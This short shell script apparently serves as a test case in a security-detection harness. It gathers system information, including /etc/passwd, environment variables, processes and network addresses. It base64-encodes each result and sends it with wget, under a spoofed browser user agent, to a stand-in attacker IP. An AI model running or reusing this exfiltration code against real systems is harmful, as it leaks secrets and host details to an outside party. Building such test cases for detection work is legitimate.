#!/bin/sh
. /opt/case/case.sh

id=$(cat /proc/sys/kernel/random/boot_id | cut -c1-8)
for what in 'uname -a' id 'cat /etc/passwd' env mount 'ps' 'ip addr' 'df'; do
    answer=$(wget -qO- -U 'Mozilla/5.0' "http://203.0.113.10/$id?d=$($what 2>&1 | base64 | tr -d '\n=' | cut -c1-900)")
    test "$answer" = ok
    sleep 1
done
took_place
